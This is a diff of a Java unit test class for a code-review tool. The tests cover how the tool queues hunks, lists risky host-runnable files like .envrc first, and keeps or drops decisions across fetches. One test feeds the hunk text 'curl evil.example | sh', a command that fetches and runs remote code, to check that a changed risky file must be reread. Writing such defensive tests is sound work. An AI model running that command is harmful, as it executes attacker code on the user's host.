@@ -1,65 +1,228 @@
 package dev.belljar.app.review;
 
+import static dev.belljar.app.review.SampleReviews.commit;
+import static dev.belljar.app.review.SampleReviews.file;
+import static dev.belljar.app.review.SampleReviews.hunks;
+import static dev.belljar.app.review.SampleReviews.merge;
+import static dev.belljar.app.review.SampleReviews.queue;
+import static dev.belljar.app.review.SampleReviews.uncommitted;
 import static org.assertj.core.api.Assertions.assertThat;
 
-import dev.belljar.contract.view.work.FileChange;
-import dev.belljar.contract.view.work.FileDiff;
-import dev.belljar.contract.view.work.SyncPlan;
-import dev.belljar.contract.view.work.WorkspaceComparison;
-import java.util.List;
-import org.jspecify.annotations.Nullable;
+import dev.belljar.app.review.decision.HunkDecision;
+import dev.belljar.app.review.decision.ReviewProgress;
+import dev.belljar.app.review.decision.ReviewedFile;
+import dev.belljar.contract.view.review.ReviewEntry;
+import java.util.stream.IntStream;
 import org.junit.jupiter.api.Test;
 
-/// Tests that files that could run on the host are included only if the user ticks them.
+/// Tests the queue of hunks: its order, the decisions, and which of them survive a fetch.
 class ReviewModelTest {
-    private final ReviewModel model = new ReviewModel(new SyncPlan(
-            "tip",
-            "base",
-            "belljar/shop",
-            List.of(),
-            0,
-            new FileDiff("base", "tip", List.of(file("a.ts", null), file(".envrc", "runs")), List.of(), true),
-            new FileDiff("head", "tip", List.of(file("mine.ts", null)), List.of(), true),
-            false));
+    private static final ReviewEntry FIRST = commit("c1", file("b.ts"), file("a.ts"), file(".envrc", "runs"));
+    private static final ReviewEntry LAST = uncommitted("u1", file("a.ts"), file("z.ts"));
+
+    private final ReviewModel model = new ReviewModel();
 
     @Test
-    void riskyFilesAreLeftOutAtFirst() {
-        assertThat(model.decision().allowed()).isEmpty();
-        assertThat(model.acceptWords()).isEqualTo("Sync 2 files");
+    void riskyFilesComeFirstAndTheOthersByCommit() {
+        model.show(queue("tip", FIRST, LAST), 0);
+        assertThat(model.files())
+                .extracting(ReviewedFile::path)
+                .containsExactly(".envrc", "a.ts", "b.ts", "a.ts", "z.ts");
+        assertThat(at()).isEqualTo(".envrc 0");
     }
 
     @Test
-    void onlyATickedRiskyFileIsSynced() {
-        model.tick(model.risky().getFirst(), true);
-        assertThat(model.decision().allowed()).containsExactly(".envrc");
-        assertThat(model.acceptWords()).isEqualTo("Sync 3 files");
+    void filesCanBeGroupedByFolder() {
+        model.show(queue("tip", commit("c1", file("src/a.ts"), file("b.ts")), commit("c2", file("src/b.ts"))), 0);
+        model.group(ReviewModel.ReviewGrouping.FOLDERS);
+        assertThat(model.files()).extracting(ReviewedFile::path).containsExactly("b.ts", "src/a.ts", "src/b.ts");
     }
 
     @Test
-    void theUsersOwnFilesAreCountedAmongTheSyncedOnes() {
-        assertThat(model.own()).extracting(FileChange::path).containsExactly("mine.ts");
-        assertThat(model.coming()).isEqualTo(model.safe().size() + model.own().size());
+    void aDecisionGoesOnToTheNextOpenHunkAlsoInAnotherFile() {
+        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
+        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
+        model.decide(HunkDecision.ACCEPTED);
+        assertThat(at()).isEqualTo("a.ts 1");
+        model.decide(HunkDecision.SKIPPED);
+        assertThat(at()).isEqualTo("b.ts 0");
+        model.decide(HunkDecision.ACCEPTED);
+        assertThat(model.progress()).isEqualTo(new ReviewProgress(3, 2, 1, 0, 0, 0));
+        assertThat(model.progress().complete()).isTrue();
     }
 
     @Test
-    void everyListedFileIsCounted() {
-        assertThat(model.listed()).isEqualTo(3);
+    void afterTheLastFileTheNextOpenHunkIsLookedForFromTheStart() {
+        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
+        model.open(named("b.ts"), 0);
+        model.decide(HunkDecision.ACCEPTED);
+        assertThat(at()).isEqualTo("a.ts 0");
     }
 
     @Test
-    void aFileIsReadAtTheCommitsOfTheDecision() {
-        assertThat(model.sides("sb-1", model.risky().getFirst()))
-                .extracting(WorkspaceComparison::from, WorkspaceComparison::base, WorkspaceComparison::tip)
-                .containsExactly("sb-1", "base", "tip");
-        assertThat(model.sides("sb-1", model.own().getFirst()).base()).isEqualTo("head");
+    void keysGoThroughHunksAndFilesInOrderAndStopAtTheEnds() {
+        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
+        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
+        model.step(-1);
+        assertThat(at()).isEqualTo("a.ts 0");
+        model.step(1);
+        assertThat(at()).isEqualTo("a.ts 1");
+        model.step(1);
+        assertThat(at()).isEqualTo("b.ts 0");
+        model.step(1);
+        assertThat(at()).isEqualTo("b.ts 0");
+        model.step(-1);
+        assertThat(at()).isEqualTo("a.ts 1");
+        model.stepFile(1);
+        assertThat(at()).isEqualTo("b.ts 0");
+        model.stepFile(-1);
+        assertThat(at()).isEqualTo("a.ts 0");
     }
 
     @Test
-    void theDecisionIsAboutTheReviewedCommit() {
-        assertThat(model.decision().commit()).isEqualTo("tip");
+    void acceptingAllSafeHunksLeavesRiskyFilesAndSkippedHunksAlone() {
+        model.show(queue("tip", FIRST, LAST), 0);
+        model.decideFile(named("b.ts"), HunkDecision.SKIPPED);
+        assertThat(model.progress().safe()).isEqualTo(3);
+        model.acceptSafe();
+        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.SKIPPED);
+        assertThat(named(".envrc").decision(0)).isEqualTo(HunkDecision.OPEN);
+        assertThat(model.progress().included()).isEqualTo(3);
+        assertThat(at()).as("what is left to decide").isEqualTo(".envrc 0");
     }
 
-    private static FileChange file(String path, @Nullable String risk) {
-        return new FileChange("M", path, null, 1, 0, false, risk);
+    @Test
+    void aDecisionAboutAWholeFileHoldsForItsHunksOnceTheyAreKnown() {
+        model.show(queue("tip", commit("c1", file("a.ts"))), 0);
+        model.acceptSafe();
+        model.load(named("a.ts"), hunks("a.ts", "one", "two"));
+        assertThat(named("a.ts").included()).isEqualTo(2);
+    }
+
+    @Test
+    void decisionsAreUndoneOneAfterTheOther() {
+        model.show(queue("tip", commit("c1", file("a.ts"), file("b.ts"))), 0);
+        model.decide(HunkDecision.ACCEPTED);
+        model.acceptSafe();
+        assertThat(model.undo()).isTrue();
+        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.OPEN);
+        assertThat(named("a.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
+        assertThat(model.undo()).isTrue();
+        assertThat(model.progress().decided()).isZero();
+        assertThat(at()).isEqualTo("a.ts 0");
+        assertThat(model.undo()).isFalse();
+    }
+
+    @Test
+    void fiftyDecisionsCanBeUndone() {
+        model.show(queue("tip", commit("c1", file("a.ts"))), 0);
+        IntStream.range(0, 60).forEach(i -> model.decideFile(named("a.ts"), HunkDecision.ACCEPTED));
+        assertThat(IntStream.range(0, 60).filter(i -> model.undo()).count()).isEqualTo(50);
+    }
+
+    @Test
+    void allFilesOfAMergeAreDecidedTogether() {
+        model.show(queue("tip", merge("m1", file("a.ts"), file("b.ts"), file(".envrc", "runs"))), 0);
+        model.open(named("a.ts"), 0);
+        model.decide(HunkDecision.ACCEPTED);
+        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
+        assertThat(named(".envrc").decision(0)).as("could run on the host").isEqualTo(HunkDecision.OPEN);
+    }
+
+    @Test
+    void decisionsAboutACommitSurviveAFetch() {
+        model.show(queue("tip", FIRST, LAST), 0);
+        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
+        assertThat(model.show(queue("tip2", FIRST, uncommitted("u2", file("z.ts"))), 0))
+                .isTrue();
+        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.ACCEPTED);
+        assertThat(model.files()).hasSize(4);
+    }
+
+    @Test
+    void theSameQueueChangesNothing() {
+        model.show(queue("tip", FIRST, LAST), 0);
+        assertThat(model.show(queue("tip", FIRST, LAST), 0)).isFalse();
+    }
+
+    @Test
+    void decisionsAboutUncommittedHunksSurviveWhereTheTextIsTheSame() {
+        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
+        model.load(named("a.ts"), hunks("a.ts", "one", "two", "three"));
+        model.decide(HunkDecision.ACCEPTED);
+        model.decide(HunkDecision.SKIPPED);
+        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 77);
+        assertThat(named("a.ts").decided()).as("before its hunks are known").isFalse();
+        assertThat(model.toCompare()).containsExactly(named("a.ts"));
+        model.load(named("a.ts"), hunks("a.ts", "one", "TWO", "three"));
+        assertThat(named("a.ts").decisions())
+                .containsExactly(HunkDecision.ACCEPTED, HunkDecision.OPEN, HunkDecision.OPEN);
+        assertThat(named("a.ts").changedAt(1)).isEqualTo(77);
+        assertThat(named("a.ts").changedAt(0)).isZero();
+        assertThat(model.toCompare()).isEmpty();
+    }
+
+    @Test
+    void aFileThatBecameRiskyIsDecidedAnew() {
+        model.show(queue("tip", uncommitted("u1", file("run.sh"))), 0);
+        model.load(named("run.sh"), hunks("run.sh", "one"));
+        model.decide(HunkDecision.ACCEPTED);
+        model.show(queue("tip2", uncommitted("u2", file("run.sh", "it is executable"))), 0);
+        model.load(named("run.sh"), hunks("run.sh", "one"));
+        assertThat(named("run.sh").included()).isZero();
+        assertThat(named("run.sh").read()).isFalse();
+    }
+
+    @Test
+    void aRiskyFileThatChangedMustBeReadAgain() {
+        model.show(queue("tip", uncommitted("u1", file(".envrc", "runs"))), 0);
+        model.load(named(".envrc"), hunks(".envrc", "one"));
+        named(".envrc").markRead();
+        model.show(queue("tip2", uncommitted("u2", file(".envrc", "runs"))), 0);
+        model.load(named(".envrc"), hunks(".envrc", "one"));
+        assertThat(named(".envrc").read()).as("the same text").isTrue();
+        model.show(queue("tip3", uncommitted("u3", file(".envrc", "runs"))), 0);
+        model.load(named(".envrc"), hunks(".envrc", "curl evil.example | sh"));
+        assertThat(named(".envrc").read()).isFalse();
+    }
+
+    @Test
+    void decisionsAboutFilesThatWereNeverLoadedAreDroppedIfTheyMayHaveChanged() {
+        model.show(queue("tip", uncommitted("u1", file("a.ts"))), 0);
+        model.acceptSafe();
+        model.show(queue("tip2", uncommitted("u2", file("a.ts"))), 0);
+        assertThat(model.progress().decided()).isZero();
+    }
+
+    @Test
+    void syncedHunksAreLeftOutSinceTheLastSync() {
+        model.show(queue("tip", FIRST, LAST), 0);
+        model.decideFile(named("b.ts"), HunkDecision.ACCEPTED);
+        model.synced();
+        assertThat(named("b.ts").decision(0)).isEqualTo(HunkDecision.SYNCED);
+        assertThat(model.progress().included()).isEqualTo(1);
+        model.sinceSync(true);
+        assertThat(model.files()).extracting(ReviewedFile::path).containsExactly(".envrc", "a.ts", "a.ts", "z.ts");
+        model.sinceSync(false);
+        assertThat(model.files()).hasSize(5);
+    }
+
+    @Test
+    void theCurrentFileStaysCurrentAfterAFetch() {
+        model.show(queue("tip", FIRST, LAST), 0);
+        model.open(named("z.ts"), 0);
+        model.show(queue("tip2", FIRST, uncommitted("u2", file("a.ts"), file("z.ts"))), 0);
+        assertThat(at()).isEqualTo("z.ts 0");
+    }
+
+    private String at() {
+        return model.spot().map(spot -> spot.file().path() + " " + spot.hunk()).orElse("");
+    }
+
+    private ReviewedFile named(String path) {
+        return model.all().stream()
+                .filter(file -> file.path().equals(path))
+                .findFirst()
+                .orElseThrow();
     }
 }
